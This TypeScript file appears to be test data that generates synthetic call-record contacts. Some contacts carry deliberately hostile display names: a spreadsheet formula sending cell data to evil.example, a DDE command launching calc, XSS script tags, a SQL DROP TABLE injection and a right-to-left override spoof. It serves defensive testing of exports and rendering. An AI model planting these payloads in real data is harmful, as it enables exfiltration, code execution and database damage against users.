/** A stranger at the other end of a call. */
export interface Contact {
  /** As the record writes it when this stranger calls: a number, or the word for a hidden one. */
  caller: string;
  /** As the record writes it when this stranger is called: a number, or a SIP address. */
  destination: string;
  /** What this stranger's own telephone says, which is whatever its owner likes. */
  name: string;
}

/** How many strangers there are. */
export const CONTACTS = 4000;

const names =
  'Abha,Bhanu,Chitra,Dev Stores,Ekta Medicals,Farah,Gopal and Sons,Ira,Jai Travels,Om Hardware,Tara,अनिता,கவிதா'.split(
    ',',
  );

// Who sets a caller's name also writes into the table of whoever is called, and into the file they open tomorrow.
const hostile = [
  '=HYPERLINK("https://evil.example/?"&A1,"Refund")',
  '<img src=x onerror=alert(1)>',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  '"><script>alert(document.domain)</script>',
  '@SUM(A1:A9)',
  "Robert'); DROP TABLE calls;--",
  '\u202Eknab ruoY',
  'Line one\r\nLine two, "quoted"',
  'x'.repeat(300),
];

/** The stranger with an index below `CONTACTS`; numbers are invented, or set aside for films. */
export function contactOf(index: number): Contact {
  const caller = numberOf(index);
  const name = nameOf(index, caller);
  if (index % 50 === 9) return { caller: 'anonymous', destination: caller, name: '' };
  if (index % 60 === 11) return { caller, destination: `sip:desk${index}@pbx.example.com`, name };
  return { caller, destination: caller, name };
}

function numberOf(index: number): string {
  const digits = String(index).padStart(4, '0');
  if (index % 25 === 3) return `+1202555${String(100 + (index % 100)).padStart(4, '0')}`;
  if (index % 25 === 8) return `+442079460${String(index % 1000).padStart(3, '0')}`;
  // Now and then the service forgets the plus sign.
  return `${index % 30 === 1 ? '' : '+'}91900000${digits}`;
}

function nameOf(index: number, caller: string): string {
  if (index % 40 === 7) return hostile[Math.floor(index / 40) % hostile.length]!;
  if (index % 10 === 4) return caller;
  return index % 3 === 0 ? names[index % names.length]! : '';
}
